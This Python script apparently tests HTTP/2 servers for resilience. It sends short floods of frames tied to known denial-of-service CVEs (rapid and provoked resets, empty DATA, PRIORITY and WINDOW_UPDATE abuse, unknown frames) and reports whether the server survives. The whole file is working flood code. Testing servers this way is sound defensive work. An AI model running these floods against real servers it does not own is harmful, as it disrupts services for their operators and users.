"""Floods of HTTP/2 frames that are cheap for the sender and expensive for a careless server."""

from __future__ import annotations

import struct
import time
from collections.abc import Callable, Iterator

from attempts import attempt, say
from calls import say_whether_served
from frames import (
    DATA,
    FRAMES,
    PRIORITY,
    WINDOW_UPDATE,
    Connection,
    endless_headers,
    frame,
    open_stream,
    pings,
    rapid_resets,
    settings,
)

SPEND_S = 0.5


def resets_provoked() -> Iterator[bytes]:
    """Provoke resets by the server (CVE-2025-8671)."""
    for stream in range(1, 2 * FRAMES, 2):
        yield open_stream(stream) + frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0")


def empty_data() -> Iterator[bytes]:
    """Send many empty frames (CVE-2019-9518)."""
    yield open_stream(1)
    for _ in range(FRAMES):
        yield frame(DATA, 0, 1)


def priorities() -> Iterator[bytes]:
    """Reorder streams that do not exist (CVE-2019-9513)."""
    for number in range(FRAMES):
        yield frame(PRIORITY, 0, 1 + 2 * (number % 1000), struct.pack(">IB", 0, number % 256))


def windows() -> Iterator[bytes]:
    """Enlarge the window beyond the largest number."""
    for _ in range(FRAMES):
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFFFFFF))


def unknown_frames() -> Iterator[bytes]:
    """Send unknown frame types and wrong lengths."""
    for number in range(FRAMES):
        yield frame(32 + number % 200, 255, number % 99, b"?" * (number % 50))


FLOODS: tuple[Callable[[], Iterator[bytes]], ...] = (
    *(rapid_resets, resets_provoked, settings, pings, endless_headers),
    *(empty_data, priorities, windows, unknown_frames),
)


def flood(kind: Callable[[], Iterator[bytes]]) -> str:
    connection = Connection()
    sent, end = 0, time.monotonic() + SPEND_S
    try:
        for octets in kind():
            connection.send(octets)
            sent += 1
            if time.monotonic() > end:
                break
        answer = "the server goes on" if connection.is_open() else "the server hung up"
    except OSError as error:
        answer = f"the server hung up: {error}"
    connection.close()
    say(f"tried {kind.__name__.replace('_', ' ')}: after {sent} frames {answer}")
    return ""


for kind in FLOODS:
    attempt(f"a flood of {kind.__name__.replace('_', ' ')}", flood, kind)
say_whether_served()
